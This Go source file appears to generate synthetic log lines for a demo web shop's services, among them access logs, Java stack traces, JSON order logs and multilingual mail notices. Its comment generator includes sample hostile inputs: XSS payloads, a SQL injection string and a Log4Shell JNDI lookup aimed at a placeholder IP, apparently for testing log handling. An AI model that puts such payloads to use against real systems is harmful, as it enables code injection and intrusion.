package demo

import (
	"encoding/json"
	"fmt"
	"strings"
	"time"
)

var (
	agents = []string{
		"Mozilla/5.0 (X11; Linux x86_64; rv:132.0) Gecko/20100101 Firefox/132.0",
		"Mozilla/5.0 (iPhone; CPU iPhone OS 18_1 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/18.1 Mobile/15E148 Safari/604.1",
		"Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/131.0.0.0 Safari/537.36",
		"kube-probe/1.31", "curl/8.10.1",
	}
	paths    = []string{"/", "/search?q=tent", "/api/cart", "/api/checkout", "/product/%d", "/product/%d/reviews", "/static/app.%d.js", "/api/user/%d"}
	products = []string{"tent", "lamp", "stove", "rope", "boots", "map", "compass", "flask"}
)

func edge() func(*process) time.Duration {
	return func(p *process) time.Duration {
		path := pick(p, paths...)
		if strings.Contains(path, "%d") {
			path = fmt.Sprintf(path, 1000+p.IntN(9000))
		}
		ip, status, took := p.ip(), pick(p, 200, 200, 200, 200, 200, 200, 304, 301, 404, 499), p.ExpFloat64()*0.04
		if p.chance(2) {
			status, took = pick(p, 502, 504), 5+p.ExpFloat64()
			p.errOut(`%s [error] 31#31: *%d upstream timed out (110: Connection timed out) while reading response header from upstream, client: %s, server: shop.example.com, request: "GET %s HTTP/1.1", upstream: "http://10.32.0.7:31017%s", host: "shop.example.com"`,
				p.now.UTC().Format("2006/01/02 15:04:05"), p.IntN(1e6), ip, path, path)
		}
		p.out(`%s - - [%s] "GET %s HTTP/1.1" %d %d "https://shop.example.com/" "%s" rt=%.3f id=%s`,
			ip, p.now.UTC().Format("02/Jan/2006:15:04:05 +0000"), path, status, p.IntN(40000), pick(p, agents...), took, p.hex(16))
		return p.noise()
	}
}

func recommender() func(*process) time.Duration {
	return func(p *process) time.Duration {
		at := p.now.UTC().Format("2006-01-02 15:04:05.000")
		if p.chance(3) {
			p.out("%s WARN  [scorer-%d] cache miss rate %d%% above 20%%, falling back to popular items", at, p.IntN(8), 20+p.IntN(40))
			return p.noise()
		}
		scores := make([]string, 4+p.IntN(6))
		for i := range scores {
			scores[i] = fmt.Sprintf("%s=%.4f", pick(p, products...), p.Float64())
		}
		p.out("%s DEBUG [scorer-%d] user=%d session=%s candidates=%d model=als-v%d scores={%s} took=%dus",
			at, p.IntN(8), p.IntN(90000), p.hex(16), 100+p.IntN(900), 3+p.IntN(2), strings.Join(scores, ", "), 80+p.IntN(4000))
		return p.noise()
	}
}

func tracker() func(*process) time.Duration {
	return func(p *process) time.Duration {
		p.out(`level=%s ts=%s caller=pixel.go:%d msg="impression" campaign=%d placement=%s bid_micros=%d price_micros=%d geo=%s consent=%s trace=%s%s`,
			pick(p, "debug", "debug", "debug", "info"), p.now.UTC().Format("2006-01-02T15:04:05.000000Z"), 40+p.IntN(200),
			p.IntN(500), pick(p, "home-top", "search-side", "product-bottom"), p.IntN(900000), p.IntN(700000),
			pick(p, "DE-BE", "FR-75", "US-CA", "JP-13", "BR-SP"), pick(p, "full", "basic", "none"), p.hex(16), p.hex(16))
		return p.noise()
	}
}

func checkout() func(*process) time.Duration {
	return func(p *process) time.Duration {
		line := map[string]any{
			"@timestamp": p.now.UTC().Format(time.RFC3339Nano), "level": "info", "msg": "order placed", "logger": "checkout.order",
			"order": map[string]any{"id": p.IntN(1e7), "total": float64(p.IntN(30000)) / 100, "items": 1 + p.IntN(5), "currency": pick(p, "EUR", "USD", "GBP")},
			"user":  map[string]any{"id": p.IntN(90000), "country": pick(p, "DE", "FR", "US", "JP")}, "trace_id": p.hex(16), "duration_ms": p.IntN(400),
		}
		switch n := p.IntN(100); {
		case n < 4:
			line["level"], line["msg"] = "error", "payment declined: "+pick(p, "insufficient funds", "card expired", "3-D Secure failed")
			line["error"] = map[string]any{"type": "PaymentDeclined", "message": "gateway answered 402"}
		case n < 12:
			line["level"], line["msg"] = "warn", "slow response from inventory"
			line["duration_ms"] = 1500 + p.IntN(3000)
		case n < 40:
			line["msg"], line["logger"] = "cart updated", "checkout.cart"
		}
		b, err := json.Marshal(line)
		if err != nil {
			p.err = err
			return 0
		}
		p.out("%s", b)
		return p.about(600 * time.Millisecond)
	}
}

func payment() func(*process) time.Duration {
	begun := false
	return func(p *process) time.Duration {
		say := func(level, logger, format string, args ...any) {
			p.out("%s %5s 1 --- [nio-8080-exec-%d] %-40s : %s", p.now.UTC().Format("2006-01-02 15:04:05.000"), level, 1+p.IntN(8), logger, fmt.Sprintf(format, args...))
		}
		switch {
		case p.live && !begun:
			begun = true
			say("INFO", "c.e.shop.payment.PaymentApplication", "Starting PaymentApplication v1.8.0 using Java 21.0.5 with PID 1")
			say("INFO", "o.s.b.w.embedded.tomcat.TomcatWebServer", "Tomcat started on port 8080 (http) with context path '/'")
			say("INFO", "c.e.shop.payment.PaymentApplication", "Started PaymentApplication in %.3f seconds", 1+p.Float64())
		case p.live && p.up() > 8*time.Second && p.chance(10):
			say("ERROR", "c.e.shop.payment.LedgerService", "Could not book order %d, giving up", p.IntN(1e7))
			p.write(stderr, crash)
			p.write(stdout, "[entrypoint] java ended with status 1, giving up") // and no newline
			p.exit(1)
		case p.chance(5):
			say("WARN", "com.zaxxer.hikari.pool.HikariPool", "ledger - Thread starvation or clock leap detected (housekeeper delta=%ds).", 30+p.IntN(30))
		case p.chance(4):
			p.write(stdout, fmt.Sprintf("%s ERROR 1 --- [nio-8080-exec-3] %-40s : Servlet.service() for servlet [dispatcherServlet] threw exception\n%s",
				p.now.UTC().Format("2006-01-02 15:04:05.000"), "o.a.c.c.C.[.[.[/].[dispatcherServlet]", gatewayTrace))
		default:
			say("INFO", "c.e.shop.payment.LedgerService", "Booked order %d: %d.%02d EUR in %d ms", p.IntN(1e7), p.IntN(300), p.IntN(100), 3+p.IntN(60))
		}
		return p.about(900 * time.Millisecond)
	}
}

const gatewayTrace = `java.net.SocketTimeoutException: Read timed out
	at java.base/sun.nio.ch.NioSocketImpl.timedRead(NioSocketImpl.java:278)
	at java.base/sun.nio.ch.NioSocketImpl.implRead(NioSocketImpl.java:304)
	at com.example.shop.payment.GatewayClient.charge(GatewayClient.java:97)
	at com.example.shop.payment.PaymentController.pay(PaymentController.java:41)
	at java.base/java.lang.Thread.run(Thread.java:1583)
`

const crash = `Exception in thread "main" java.lang.IllegalStateException: ledger is not reachable
	at com.example.shop.payment.LedgerService.book(LedgerService.java:118)
	at com.example.shop.payment.LedgerService$$Lambda/0x00007f3c1c3d1a28.run(Unknown Source)
	at com.example.shop.payment.PaymentApplication.main(PaymentApplication.java:23)
Caused by: java.sql.SQLTransientConnectionException: ledger - Connection is not available, request timed out after 30000ms (total=10, active=10, idle=0, waiting=37)
	at com.zaxxer.hikari.pool.HikariPool.createTimeoutException(HikariPool.java:686)
	at com.zaxxer.hikari.pool.HikariPool.getConnection(HikariPool.java:179)
	at com.example.shop.payment.LedgerService.book(LedgerService.java:104)
	... 2 more
Caused by: org.postgresql.util.PSQLException: FATAL: remaining connection slots are reserved for roles with the SUPERUSER attribute
	at org.postgresql.core.v3.QueryExecutorImpl.receiveErrorResponse(QueryExecutorImpl.java:2733)
	... 5 more
`

func inventory() func(*process) time.Duration {
	return func(p *process) time.Duration {
		level := pick(p, "I", "I", "I", "I", "I", "I", "W", "E")
		text := map[string]string{
			"I": fmt.Sprintf("reserved %d x %s for order %d", 1+p.IntN(4), pick(p, products...), p.IntN(1e7)),
			"W": fmt.Sprintf("stock of %s is low: %d left in warehouse %s", pick(p, products...), p.IntN(5), pick(p, "BER", "LYS", "RNO")),
			"E": fmt.Sprintf("sync with warehouse %s: rpc error: code = Unavailable desc = connection refused", pick(p, "BER", "LYS", "RNO")),
		}[level]
		p.errOut("%s%s       1 reserve.go:%d] %s", level, p.now.UTC().Format("0102 15:04:05.000000"), 60+p.IntN(90), text)
		return p.about(1200 * time.Millisecond)
	}
}

func search() func(*process) time.Duration {
	dumped := time.Duration(-1)
	return func(p *process) time.Duration {
		// One dump soon after the start, then one each 20 s.
		if up := p.up(); up >= 0 && (dumped < 0 || up-dumped > 20*time.Second) {
			dumped = up
			var ids []string
			for size := 0; size < 40<<10; size += 19 {
				ids = append(ids, p.hex(16))
			}
			p.out(`%s - indexer - DEBUG - segment flushed: {"documents": %d, "ids": ["%s"]}`, p.now.UTC().Format("2006-01-02 15:04:05,000"), len(ids), strings.Join(ids, `","`))
			return p.about(time.Second)
		}
		p.out("%s - indexer - %s", p.now.UTC().Format("2006-01-02 15:04:05,000"), pick(p,
			fmt.Sprintf("INFO - indexed %d products in %d ms", 10+p.IntN(400), 5+p.IntN(900)),
			fmt.Sprintf("INFO - query %q: %d hits", pick(p, products...), p.IntN(300)),
			fmt.Sprintf("WARNING - no synonyms for %q", pick(p, products...))))
		return p.about(1500 * time.Millisecond)
	}
}

func mailer() func(*process) time.Duration {
	greetings := []string{
		"Grüße an Jürgen Weiß: Ihre Bestellung ist unterwegs 📦",
		"お客様のご注文を発送しました 🚚 ありがとうございます",
		"Ваш заказ доставлен ✅ спасибо!",
		"طلبك في الطريق إليك 🐪",
		"您的订单已发货 🎉 谢谢",
		"Το δέμα σας έφτασε 📬",
		"ההזמנה שלך נשלחה 💌",
		"Zażółć gęślą jaźń — paczka w drodze 🧭",
		"👩‍👩‍👧‍👦 family pack shipped, 🇫🇷 → 🇯🇵, naïve café\u2028next",
	}
	return func(p *process) time.Duration {
		p.out("[%s] INFO mail %s queued: %s", p.now.UTC().Format(time.TimeOnly), p.hex(8), pick(p, greetings...))
		if p.chance(6) {
			p.errOut("[%s] ERROR mail %s bounced: 550 5.1.1 mailbox unavailable", p.now.UTC().Format(time.TimeOnly), p.hex(8))
		}
		return p.about(1300 * time.Millisecond)
	}
}

func comments() func(*process) time.Duration {
	texts := []string{
		"great tent, five stars", "when is this back in stock?", `<script>alert("hello from the comments")</script>`,
		`<img src=x onerror="document.title='owned'">`, "'; DROP TABLE comments; --", "${jndi:ldap://203.0.113.9/a}", "100 % recommended & cheap <3",
	}
	return func(p *process) time.Duration {
		p.out("\x1b[36mINFO\x1b[0m  %s \x1b[1mPOST /comments\x1b[0m from %s body=%s", p.now.UTC().Format(time.RFC3339), p.ip(), pick(p, texts...))
		if p.chance(15) {
			p.out("\x1b[31mERROR\x1b[0m %s spam filter: score %d.%d, comment %d held back", p.now.UTC().Format(time.RFC3339), 5+p.IntN(5), p.IntN(10), p.IntN(1e5))
		}
		return p.about(1600 * time.Millisecond)
	}
}

func redis() func(*process) time.Duration {
	return func(p *process) time.Duration {
		at := p.now.UTC().Format("02 Jan 2006 15:04:05.000")
		if p.chance(30) {
			p.out("1:M %s # WARNING: 1000 changes in 60 seconds, but the last background save took %d seconds.", at, 1+p.IntN(9))
			return p.about(4 * time.Second)
		}
		pid := 20 + p.IntN(9000)
		p.out("1:M %s * 100 changes in 60 seconds. Saving...", at)
		p.out("1:M %s * Background saving started by pid %d", at, pid)
		p.out("%d:C %s * DB saved on disk", pid, at)
		return p.about(6 * time.Second)
	}
}

func cleanup() func(*process) time.Duration {
	return func(p *process) time.Duration {
		n := p.IntN(400)
		p.out("cleanup-carts: looking for carts older than 30 days")
		for i := range 3 + p.IntN(5) {
			p.out("cleanup-carts: shard %d: %d removed", i, p.IntN(60))
		}
		if p.chance(20) {
			p.errOut("cleanup-carts: ERROR shard %d is locked, skipped", p.IntN(8))
		}
		p.write(stdout, fmt.Sprintf("cleanup-carts: done, %d carts removed", n)) // and no newline
		p.exit(0)
		return 0
	}
}
